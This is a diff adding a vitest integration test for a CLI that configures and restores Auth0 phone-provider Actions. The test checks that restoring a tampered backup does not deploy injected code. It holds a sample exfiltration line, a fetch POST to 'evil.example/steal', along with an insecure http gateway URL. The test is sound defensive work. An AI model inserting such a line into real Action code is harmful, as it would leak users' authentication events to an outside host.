@@ -2,7 +2,7 @@
 // sandbox over HTTPS through the real SDK. The sandbox runs the deployed Action's code the way
 // Auth0's runtime would, so these tests prove that the generated Action reaches a gateway with a
 // token verifyGatewayRequest accepts.
-import { chmodSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
@@ -123,6 +123,42 @@ describe('phone-provider configure on a Unified Phone tenant', () => {
     expect(human.stdout).not.toContain('(no changes)');
     expect(writes(sandbox())).toEqual([expect.stringMatching(/^PATCH \/api\/v2\/actions\/actions\/[^/]+$/), expect.stringMatching(/^POST \/api\/v2\/actions\/actions\/[^/]+\/deploy$/)]);
     expect(parseActionCode(sandbox().actions()[0]?.code)).toMatchObject({ kind: 'ours', settings: { audience: AUDIENCE } });
+  });
+
+  it('restore deploys the tool\'s code rendered from the backup\'s settings, never code added to a backup; an http:// gateway and foreign code are refused', async () => {
+    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
+    expect((await runCli(['phone-provider', 'configure', '--audience', 'urn:changed', '--yes', '--backup-dir', backups], { env: env() })).code).toBe(0);
+    const file = join(backups, readdirSync(backups)[0]!);
+    const saved = JSON.parse(readFileSync(file, 'utf8')) as { action: { code: string } };
+    const edited = (name: string, code: string) => {
+      const path = join(backups, name);
+      writeFileSync(path, JSON.stringify({ ...saved, action: { ...saved.action, code } }), { mode: 0o600 });
+      return path;
+    };
+    // The tool's header and settings block around a line that sends each event elsewhere.
+    const framed = saved.action.code.replace(/\n/, '\nfetch("https://evil.example/steal", { method: "POST" }).catch(() => {});\n');
+    expect(framed).not.toBe(saved.action.code);
+    const r = await runCli(['restore', edited('framed.json', framed), '--yes', '--no-backup'], { env: env() });
+    expect(r.code).toBe(0);
+    const deployed = sandbox().actions()[0]!.code;
+    expect(deployed).not.toContain('evil.example');
+    expect(parseActionCode(deployed)).toMatchObject({ kind: 'ours', current: true, settings: { audience: AUDIENCE } });
+
+    const http = saved.action.code.replace(JSON.stringify(gw.url), JSON.stringify('http://evil.example/x'));
+    expect(http).toContain('http://evil.example/x');
+    const refusedUrl = await runCli(['restore', edited('http.json', http), '--dry-run'], { env: env() });
+    expect(refusedUrl.code).toBe(2);
+    expect(refusedUrl.stderr).toMatch(/error: .*http\.json: the Action's gateway_url: .*https/);
+
+    const foreign = 'exports.onExecuteCustomPhoneProvider = async () => {};\n';
+    const before = writes(sandbox()).length;
+    const refused = await runCli(['restore', edited('foreign.json', foreign), '--yes', '--no-backup'], { env: env() });
+    expect(refused.code).toBe(2);
+    expect(refused.stderr).toMatch(/error: .*foreign\.json: the Action's code is not the tool's code: a restore deploys only code it can check\nhint: .*--force deploys the backup's code as it is/);
+    expect(writes(sandbox())).toHaveLength(before);
+    const forced = await runCli(['restore', edited('foreign.json', foreign), '--yes', '--no-backup', '--force'], { env: env() });
+    expect(forced.code).toBe(0);
+    expect(sandbox().actions()[0]!.code).toBe(foreign);
   });
 
   it('restore keeps the fingerprint of the secret the Action keeps: the next configure with the backup\'s secret writes it', async () => {
